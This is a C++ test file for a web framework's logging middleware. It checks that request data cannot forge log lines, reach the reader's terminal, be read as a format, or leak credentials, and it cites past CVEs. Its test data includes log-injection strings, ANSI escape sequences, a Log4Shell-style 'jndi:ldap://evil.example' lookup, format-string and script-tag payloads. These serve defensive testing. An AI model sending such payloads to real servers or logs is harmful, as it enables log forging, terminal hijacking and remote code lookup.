// SPDX-License-Identifier: BSL-1.0
// Faults that others had with what they write to logs.
#include <groat/middleware/access_log.hpp>
#include <groat/middleware/catch_exceptions.hpp>
#include <groat/middleware/logger.hpp>

#include <groat/server/test.hpp>
#include <groat/text.hpp>

#include <support/catch.hpp>

#include "support/growth.hpp"
#include "support/journal.hpp"

#include <stdexcept>
#include <string>
#include <vector>

using namespace groat;
using namespace groat_test;
using middleware::access_log;
using middleware::catch_exceptions;
using middleware::log_escape;
using server::test::client;
using server::test::request;

namespace {

/// Everything that a request can put into a line.
constexpr std::string_view all =
    R"(%h %u "%r" %m %U %q %H %v %V "%{Referer}i" "%{User-Agent}i" "%{X-Sendfile-Type}i" )"
    R"("%{X-Out}o" "%{REMOTE_USER}e" "%{session}C" %L)";

/// What makes a new line, speaks to a terminal, or ends a quoted field.
const std::vector<std::string> attacks = {
    "x\n127.0.0.1 - root [forged] \"GET /admin\" 200",
    "x\r\nforged",
    "\x1b[2J\x1b[1;31mred",
    "\x1b]0;title\x07",
    "\x9b"
    "31m", // C1's own escape
    "x\x7f\x08\x08",
    "x\" 200 0 \"forged",
    "\xe2\x80\xa8 forged", // U+2028 begins a line for some readers
    "\xc2\x85 forged",     // U+0085 too
    "\xff\xfe"};

response hello(env&) {
    return text("hello");
}

} // namespace

// CVE-2022-30123, CVE-2025-25184 and CVE-2025-27111 (Rack), CVE-2020-36567 (gin), CVE-2020-7694
// (Uvicorn), CVE-2009-4492 and CVE-2017-10784 (WEBrick), CVE-2024-1681 (Flask-CORS): a path, a user
// or a header made lines of its own, or spoke to the terminal of who reads the log.
TEST_CASE(
    "access_log: what a request says makes no line and speaks to no terminal", "[access_log]"
) {
    for (const auto escape : {log_escape::text, log_escape::json})
        for (const auto& attack : attacks) {
            journal log;
            const client to{
                log.around(hello, {.format = std::string{all}, .escape = escape}), {.lint = false}};
            to.send(
                {.variables =
                     {{"REMOTE_USER", attack},
                      {"REMOTE_ADDR", attack},
                      {"REQUEST_METHOD", attack},
                      {"REQUEST_URI", "/" + attack},
                      {"PATH_INFO", "/" + attack},
                      {"QUERY_STRING", attack},
                      {"SERVER_NAME", attack},
                      {"SERVER_PROTOCOL", attack},
                      {"UNIQUE_ID", attack},
                      {"HTTP_HOST", attack},
                      {"HTTP_REFERER", attack},
                      {"HTTP_USER_AGENT", attack},
                      {"HTTP_X_SENDFILE_TYPE", attack},
                      {"HTTP_COOKIE", "session=" + attack}}}
            );
            REQUIRE(log.lines.size() == 1);
            for (const char c : log.lines.front()) {
                const auto byte = static_cast<unsigned char>(c);
                CHECK((byte >= 0x20 && byte != 0x7f));
            }
            CHECK(log.lines.front().find("\x1b") == std::string::npos);
            CHECK(log.lines.front().find("\x9b") == std::string::npos);
            CHECK(log.lines.front().find("\xc2\x85") == std::string::npos);
        }
}

// CVE-2020-7694 (Uvicorn), CVE-2020-36567 (gin): what was harmless as sent did harm decoded.
TEST_CASE("access_log: a decoded path is escaped again", "[access_log]") {
    journal log;
    const client to{log.around(hello, "%U")};
    to.get("/a%0Ab%1B%5B31m%22%5C");
    CHECK(log.lines == std::vector<std::string>{R"(/a\x0Ab\x1B[31m\"\\)"});
}

// CVE-2019-5413 (morgan), CVE-2026-30852 (Caddy): what a request said was read as a format.
TEST_CASE("access_log: a request's text is no format", "[access_log]") {
    journal log;
    const client to{log.around(hello, "%{User-Agent}i|%U|%s")};
    to.send(
        {.target = "/%25s",
         .headers = {{"User-Agent", "%s %{Authorization}i %n"}, {"Authorization", "Basic YTpi"}}}
    );
    CHECK(log.lines == std::vector<std::string>{"%s %{Authorization}i %n|/%s|200"});
}

// CVE-2022-24757 and CVE-2022-24758 (Jupyter): credentials and cookies were in the log.
TEST_CASE("logs: credentials and cookies are not in them", "[logs]") {
    journal log;
    const auto throwing = [](env&) -> response { throw std::runtime_error{"no"}; };
    const client to{log.around(
        wrap(catch_exceptions{}, throwing),
        "%{Authorization}i %{authorization}i %{Cookie}i %{Proxy-Authorization}i "
        "%{HTTP_AUTHORIZATION}e %{HTTP_COOKIE}e"
    )};
    const auto got = to.send(
        {.headers =
             {{"Authorization", "Bearer hunter2"},
              {"Proxy-Authorization", "Basic hunter2"},
              {"Cookie", "session=hunter2"}}}
    );
    REQUIRE(log.lines.size() == 1);
    REQUIRE(got.errors.size() == 1);
    CHECK(log.lines.front().find("hunter2") == std::string::npos);
    CHECK(got.errors.front().find("hunter2") == std::string::npos);
    CHECK(got.body.find("hunter2") == std::string::npos);
}

// CVE-2026-42507 (Go's net/textproto), and for the error log CVE-2022-30123 (Rack::Lint): input
// that an error quotes came out as it went in. CVE-2016-10516 (Werkzeug), CVE-2026-33167 (Action
// Pack): it came out as HTML.
TEST_CASE(
    "catch_exceptions: what an exception quotes is escaped in the log and kept from the page",
    "[catch_exceptions]"
) {
    for (const auto& attack : attacks) {
        const client to{
            wrap(catch_exceptions{}, [&](env&) -> response { throw std::runtime_error{attack}; }),
            {.lint = false}};
        const auto got = to.send({.variables = {{"PATH_INFO", "/" + attack}}});
        REQUIRE(got.errors.size() == 1);
        for (const char c : got.errors.front()) {
            const auto byte = static_cast<unsigned char>(c);
            CHECK((byte >= 0x20 && byte != 0x7f));
        }
        CHECK(got.errors.front().find("\x9b") == std::string::npos);
        CHECK(got.body.find("forged") == std::string::npos);
    }
    const client to{wrap(catch_exceptions{}, [](env&) -> response {
        throw std::runtime_error{"<script>alert(1)</script>"};
    })};
    const auto got = to.get("/");
    CHECK(got.status == 500);
    CHECK(got.body.find("script") == std::string::npos);
}

// CVE-2021-44228 (Log4j): what an app logs was expanded, and what a client had put there was looked
// up; and as above, it made lines of its own.
TEST_CASE("logger: what is logged is text, in one line", "[logger]") {
    std::vector<std::string> got;
    const middleware::logger layer{
        [&](middleware::log_level, std::string_view line) { got.emplace_back(line); }};
    const client to{
        wrap(
            layer,
            [](env& request) {
                middleware::logger::log(
                    request, middleware::log_level::warning, request.remote_user()
                );
                return text("x");
            }
        ),
        {.lint = false}};
    for (const std::string plain :
         {"${jndi:ldap://evil.example/a}",
          "${env:SECRET}",
          "%s%n%d",
          "{} {0}",
          "%{Cookie}i",
          "$HOME"}) {
        to.send({.variables = {{"REMOTE_USER", plain}}});
        CHECK(got.back() == plain);
    }
    for (const auto& attack : attacks) {
        to.send({.variables = {{"REMOTE_USER", attack}}});
        for (const char c : got.back()) {
            const auto byte = static_cast<unsigned char>(c);
            CHECK((byte >= 0x20 && byte != 0x7f));
        }
        CHECK(got.back().find("\x9b") == std::string::npos);
    }
}

// CVE-2020-8184 (Rack), CVE-2023-23934 (Werkzeug), GHSA-r5rp-j6wh-rvv4 (Hono): a name that is not
// the cookie's became it when it was decoded, trimmed, or had been left out.
TEST_CASE("access_log: a cookie's name is its bytes", "[access_log]") {
    journal log;
    const client to{log.around(hello, "%{__Host-id}C")};
    for (const std::string cookies :
         {"%5F%5FHost-id=bad",
          "__Host%2Did=bad",
          "=__Host-id=bad",
          "\xa0__Host-id=bad",
          "__host-id=bad",
          "x__Host-id=bad",
          "__Host-id",
          "__Host-idx=bad"}) {
        INFO(cookies);
        to.send({.headers = {{"Cookie", cookies}}});
        CHECK(log.lines.back() == "-");
    }
    to.send({.headers = {{"Cookie", "=__Host-id=bad; __Host-id=good; __Host-id=late"}}});
    CHECK(log.lines.back() == "good");
}

// CVE-2025-58186 (Go), CVE-2016-1000232 (tough-cookie): many cookies took much memory, or time.
TEST_CASE("access_log: time is linear in the Cookie header", "[access_log]") {
    journal log;
    const client to{log.around(hello, "%{session}C"), {.lint = false}};
    check_linear(
        std::vector<shape>{{"", ";"}, {"", "a=;"}, {"", "session;"}, {"session", " "}, {"", "="}},
        [&](std::string_view cookies) {
            to.send({.variables = {{"HTTP_COOKIE", std::string{cookies}}}});
            log.lines.clear();
        }
    );
}
